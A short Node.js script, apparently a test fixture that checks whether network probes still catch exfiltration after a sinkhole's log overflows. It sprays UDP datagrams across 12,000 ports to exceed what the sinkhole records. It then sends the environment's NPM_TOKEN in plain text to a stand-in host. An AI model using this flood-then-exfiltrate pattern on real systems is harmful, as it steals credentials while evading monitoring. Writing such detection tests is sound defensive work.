// One datagram to each of 12,000 ports, more destinations than the sinkhole
// keeps in a phase, then the npm token of the environment in plain text over
// TCP: what the sinkhole no longer records, the probes still saw sent.
'use strict';
const dgram = require('dgram');
const net = require('net');
const token = process.env.NPM_TOKEN || '';
const u = dgram.createSocket('udp4');
let port = 20000;
function next() {
  if (port === 32000) {
    u.close();
    const s = net.connect(8080, '198.51.100.21', () => s.end('t=' + token + '\n'));
    s.on('error', () => {});
    return;
  }
  u.send('x', port++, '198.51.100.20', next);
}
next();
